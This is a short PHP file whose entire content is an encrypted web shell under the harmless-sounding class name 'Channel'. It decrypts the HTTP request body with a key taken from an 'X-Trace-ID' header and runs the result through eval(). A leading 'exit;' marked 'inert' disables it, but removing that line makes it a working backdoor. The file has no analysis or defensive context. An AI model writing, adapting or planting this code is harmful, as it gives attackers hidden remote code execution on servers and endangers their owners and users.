<?php exit; /* inert */ 
final class Channel
{
    public function __construct(private readonly string $key, private ?string $body = null) {}
    private function open(): ?string
    {
        $raw = base64_decode($this->body ?? '', true) ?: '';
        $iv = substr($raw, 0, 12);
        $tag = substr($raw, 12, 16);
        return openssl_decrypt(data: substr($raw, 28), cipher_algo: 'aes-256-gcm', passphrase: $this->key,
            options: OPENSSL_RAW_DATA, iv: $iv, tag: $tag) ?: null;
    }
    public function handle(): mixed
    {
        $code = $this->open();
        return $code === null ? null : eval($code);
    }
}
(new Channel(hash('sha256', $_SERVER['HTTP_X_TRACE_ID'] ?? '', true), file_get_contents('php://input')))?->handle();
